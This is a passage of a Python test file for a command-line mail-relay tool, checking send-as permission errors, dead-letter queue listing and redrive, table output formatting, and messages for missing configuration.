    cli.store.put(parse_integration({**document, "senders": [{"email": "billing@contoso.example"}]}))
    worker = threading.Timer(0.3, cli.run_sender_once)
    worker.start()

    code, out, _ = cli("test", "m365", "--to", "bo@example.com", "--wait", "--timeout", "20")
    worker.join()

    assert code == 1
    assert "from billing@contoso.example" in out
    assert "✗ failed: send_as_denied: " in out
    assert "hint: The mailbox " in out and "may not send as this 'from' address" in out


def test_test_of_an_unknown_integration_names_the_code_and_the_fix(cli):
    code, out, err = cli("test", "nobody", "--to", "bo@example.com")

    assert code == 1 and out == ""
    assert "unknown_integration" in err and "mailbroker integration add" in err


def test_dlq_list_shows_the_error_and_redrive_sends_it_once_fixed(cli):
    document = cli.microsoft("m365")
    cli.store.put(parse_integration({**document, "senders": [{"email": "billing@contoso.example"}]}))
    cli(
        "send", "-i", "m365", "--id", "invoice-9", "--from", "billing@contoso.example",
        "--to", "ana@example.com", "--subject", "Invoice", "--text", "attached",
    )  # fmt: skip
    cli.run_sender_once()  # 554 5.2.0 SendAsDenied: dead-lettered

    list_code, entries = cli.json("dlq", "list")
    cli.smtp.add_mailbox(
        document["username"], allowed_clients=[document["client_id"]], send_as=["billing@contoso.example"]
    )
    redrive_code, redriven = cli.json("dlq", "redrive", "--id", "invoice-9")
    cli.run_sender_once()
    _, after = cli.json("status", "invoice-9")
    _, left = cli.json("dlq", "list")

    assert list_code == 0
    assert [(e["message_id"], e["integration"], e["error_code"]) for e in entries] == [
        ("invoice-9", "m365", "send_as_denied")
    ]
    assert "Add-RecipientPermission" in entries[0]["hint"]
    assert redrive_code == 0 and redriven["results"] == [
        {"message_id": "invoice-9", "redriven": True, "status": "queued"}
    ]
    assert after["status"] == "sent"
    assert left == []


# --- output -----------------------------------------------------------------------------------------


def test_list_prints_an_aligned_table_with_health_and_no_colour_off_a_terminal(cli):
    cli.microsoft("first")
    cli.microsoft("second-with-longer-id")

    code, out, _ = cli("integration", "list")

    header, *rows = out.strip().splitlines()
    assert code == 0 and "\x1b[" not in out
    assert header.split() == [
        "ID", "PROVIDER", "TRANSPORT", "USERNAME", "ENDPOINT", "HEALTH", "CHECKED", "LAST", "ERROR",
    ]  # fmt: skip
    assert all(row.split()[2] == "smtp" for row in rows)
    assert len(rows) == 2
    assert {row.index("microsoft") for row in rows} == {header.index("PROVIDER")}
    assert all("unknown" in row for row in rows)  # the keeper has not run yet


def test_commands_without_configuration_say_what_to_set(cli, monkeypatch):
    monkeypatch.delenv("SEND_QUEUE_URL")
    monkeypatch.delenv("MAILBROKER_STACK", raising=False)

    code, _, err = cli("send", "-i", "x", "--to", "a@example.com")

    assert code == 2
    assert "SEND_QUEUE_URL is not set" in err and "--stack" in err
